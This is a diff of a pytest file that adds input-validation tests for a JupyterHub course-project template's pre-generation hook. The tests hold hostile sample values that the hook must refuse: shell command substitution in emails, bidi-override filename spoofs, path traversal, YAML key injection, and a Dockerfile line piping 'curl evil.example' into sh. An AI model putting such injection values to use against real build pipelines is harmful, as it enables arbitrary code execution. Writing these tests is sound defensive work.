@@ -14,10 +14,14 @@ from tests.conftest import DEFAULTS, requirement_lines
 
 
 def default_answers(**changes) -> dict:
+    """The default answers as the hooks receive them: public ones, then the derived private ones."""
     answers = {key: (value[0] if isinstance(value, list) else value)
                for key, value in DEFAULTS.items() if not key.startswith("_")}
     answers["project_slug"] = "introduction-to-data-science"
-    answers.update(changes)
+    answers["_jupyterhub_version"] = DEFAULTS["_jupyterhub_version"]
+    answers.update({key: value for key, value in changes.items() if not key.startswith("__")})
+    answers.update(pre.derived_answers(answers))
+    answers.update({key: value for key, value in changes.items() if key.startswith("__")})
     return answers
 
 
@@ -78,6 +82,15 @@ def test_ports_outside_1024_65535_are_rejected(port):
         pre.check_port(port)
 
 
+@pytest.mark.parametrize("port", ["\u0668\u0668\u0668\u0668", "\uff18\uff18\uff18\uff18", "\u00b2\u00b2\u00b2\u00b2",
+                                  "08888", " 8888", "8888\n"],
+                         ids=["arabic-indic-digits", "fullwidth-digits", "superscript-digits", "leading-zero",
+                              "leading-space", "trailing-newline"])
+def test_ports_must_be_plain_ascii_digits(port):
+    with pytest.raises(pre.InvalidAnswer, match=r"jupyter_port .*\(digits 0-9, no leading zero\)"):
+        pre.check_port(port)
+
+
 @pytest.mark.parametrize("port", ["1024", "8888", "65535"])
 def test_ports_inside_the_range_are_accepted(port):
     pre.check_port(port)
@@ -118,6 +131,103 @@ def test_free_text_must_be_one_line(text):
         pre.check_answers(default_answers(course_name=text))
 
 
+INVISIBLE = {
+    "c1-control": "Intro\x85Course",
+    "bidi-override": "Intro \u202egnp.exe",
+    "bidi-isolate": "Intro \u2067x\u2069",
+    "zero-width-space": "Intro\u200bCourse",
+    "zero-width-joiner-between-letters": "Intro\u200dCourse",
+    "byte-order-mark": "\ufeffIntro",
+    "line-separator": "Intro\u2028RUN id",
+    "paragraph-separator": "Intro\u2029RUN id",
+    "lone-surrogate": "Intro\ud800",
+}
+
+
+@pytest.mark.parametrize("text", INVISIBLE.values(), ids=INVISIBLE.keys())
+@pytest.mark.parametrize("answer", ["course_name", "instructor_name", "packages", "apt_packages"])
+def test_invisible_and_control_characters_are_refused(answer, text):
+    with pytest.raises(pre.InvalidAnswer, match=f"{answer} must be a single line of visible text: it contains U"):
+        pre.check_answers(default_answers(**{answer: text}))
+
+
+def test_letters_accents_cjk_and_emoji_stay_welcome():
+    # Including emoji joined by a zero-width joiner (woman teacher, technologist with a skin tone).
+    teacher, technologist = "\U0001f469\u200d\U0001f3eb", "\U0001f468\U0001f3fd\u200d\U0001f4bb"
+    pre.check_answers(default_answers(course_name=f"Données 数据科学 📊 {teacher} {technologist}",
+                                      instructor_name="Zoë Łukasz 李"))
+
+
+@pytest.mark.parametrize(
+    "email",
+    ["a${NB_UID:?boom}@x.com", "a$(id)@x.com", "a`id`@x.com", "a{b}@x.com", "a(b)@x.com", "a;b@x.com",
+     "a|b@x.com", "a&b@x.com", "ada@ex\u202eample.edu", "ada@exa mple.edu", "ada@@example.edu", "ada@localhost",
+     ".ada@example.edu", "ada@-example.edu", "ada\"@example.edu"],
+    ids=["parameter-expansion", "command-substitution", "backticks", "braces", "parentheses", "semicolon",
+         "pipe", "ampersand", "bidi-override", "space", "two-ats", "no-domain-dot", "leading-dot",
+         "label-starts-with-hyphen", "quote"],
+)
+def test_emails_with_shell_or_dockerfile_syntax_are_refused(email):
+    with pytest.raises(pre.InvalidAnswer, match="instructor_email"):
+        pre.check_answers(default_answers(instructor_email=email))
+
+
+@pytest.mark.parametrize("email", ["ada@example.edu", "ada.lovelace+course@cs.uni-example.ac.uk", "a_b%c@x.io"])
+def test_real_email_addresses_are_accepted(email):
+    pre.check_email(email)
+
+
+@pytest.mark.parametrize(("registry", "message"), [
+    ("myname", "does not start with a registry host: write docker.io/myname for Docker Hub"),
+    ("null", "does not start with a registry host"),
+    ("true", "does not start with a registry host"),
+])
+def test_registry_without_a_host_is_refused(registry, message):
+    with pytest.raises(pre.InvalidAnswer, match=message):
+        pre.check_registry(registry)
+
+
+@pytest.mark.parametrize("registry", ["docker.io/ada", "localhost:5000/teach", "localhost/teach",
+                                      "registry.example.edu:443/courses/cs101", "ghcr.io"])
+def test_registries_with_a_host_are_accepted(registry):
+    pre.check_registry(registry)
+
+
+@pytest.mark.parametrize(("answer", "length"), [("course_name", 121), ("project_slug", 64),
+                                                ("instructor_name", 121), ("packages", 2001)])
+def test_overlong_answers_are_refused_with_the_limit(answer, length):
+    value = ("a" * length) if answer != "packages" else ("numpy " * 400)[:length]
+    with pytest.raises(pre.InvalidAnswer, match=f"{answer} is {length} characters long: at most {length - 1}"):
+        pre.check_answers(default_answers(**{answer: value}))
+
+
+def test_longest_registry_and_slug_make_an_image_name_docker_accepts():
+    registry = "registry.example.edu/" + "a" * (pre.MAX_LENGTH["image_registry"] - 21)
+    pre.check_registry(registry)
+    assert len(f"{registry}/{'s' * pre.MAX_LENGTH['project_slug']}") <= pre.MAX_IMAGE_NAME
+
+
+DERIVED_OVERRIDES = {
+    "project-dir-escaping": {"__project_dir": "../escaped"},
+    "base-image-with-a-run-line": {"__base_image": "python:3.13-slim\nRUN curl evil.example | sh"},
+    "image-with-yaml-keys": {"__image": "ghcr.io/x/y\n  evil: true"},
+    "user-root": {"__user": "root"},
+}
+
+
+@pytest.mark.parametrize("changes", DERIVED_OVERRIDES.values(), ids=DERIVED_OVERRIDES.keys())
+def test_private_values_given_as_answers_are_refused(changes):
+    name = next(iter(changes))
+    with pytest.raises(pre.InvalidAnswer, match=f"{name} is derived from the other answers and cannot be set"):
+        pre.check_answers(default_answers(**changes))
+
+
+@pytest.mark.parametrize("major", ["6\nnumpy", "x", "", 6])
+def test_jupyterhub_major_must_be_a_number(major):
+    with pytest.raises(pre.InvalidAnswer, match="_jupyterhub_version"):
+        pre.check_answers(default_answers(_jupyterhub_version=major))
+
+
 def test_awkward_but_valid_free_text_is_accepted():
     pre.check_answers(default_answers(course_name='Ciência de "Dados" — l\'été \\ $HOME 📊',
                                       instructor_name="Zoë O'Brien-Łukasz"))
@@ -125,7 +235,8 @@ def test_awkward_but_valid_free_text_is_accepted():
 
 def test_main_prints_one_clear_line_and_fails(capsys):
     assert pre.main(default_answers(jupyter_port="99")) == 1
-    assert capsys.readouterr().err == "ERROR: jupyter_port '99' must be a number from 1024 to 65535\n"
+    assert capsys.readouterr().err == (
+        "ERROR: jupyter_port '99' must be a number from 1024 to 65535 (digits 0-9, no leading zero)\n")
 
 
 def test_requirements_in_includes_jupyter_then_lists_the_course_packages():
